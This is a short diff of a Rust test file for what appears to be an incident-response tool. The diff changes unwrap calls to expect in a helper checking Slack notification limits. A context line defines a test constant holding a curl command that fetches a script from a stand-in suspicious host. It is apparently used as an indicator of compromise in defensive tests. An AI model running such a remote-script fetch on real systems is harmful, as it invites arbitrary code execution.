@@ -142,7 +142,7 @@ const COMMAND_HEAD: &str = "curl -s http://update.cdn-telemetry.example/x.sh";
 
 fn assert_indicators_shown(p: &ResponsePlan, what: &str) {
     let n = &p.notification;
-    let payload = serde_json::to_value(&n.slack).unwrap();
+    let payload = serde_json::to_value(&n.slack).expect("serialises");
     let mut slack = Vec::new();
     slack_strings(&payload, &mut slack);
     let slack = slack.join("\n");
@@ -163,11 +163,11 @@ fn assert_indicators_shown(p: &ResponsePlan, what: &str) {
     let mut texts = Vec::new();
     mrkdwn_objects(&payload, &mut texts);
     for t in texts {
-        let s = t["text"].as_str().unwrap();
+        let s = t["text"].as_str().expect("a text string");
         assert!(s.chars().count() <= 3000, "{what}: over Slack's limit");
         assert_eq!(s.matches("```").count() % 2, 0, "{what}: fence broken");
     }
-    assert!(payload["blocks"].as_array().unwrap().len() <= 50);
+    assert!(payload["blocks"].as_array().expect("blocks").len() <= 50);
 }
 
 #[test]
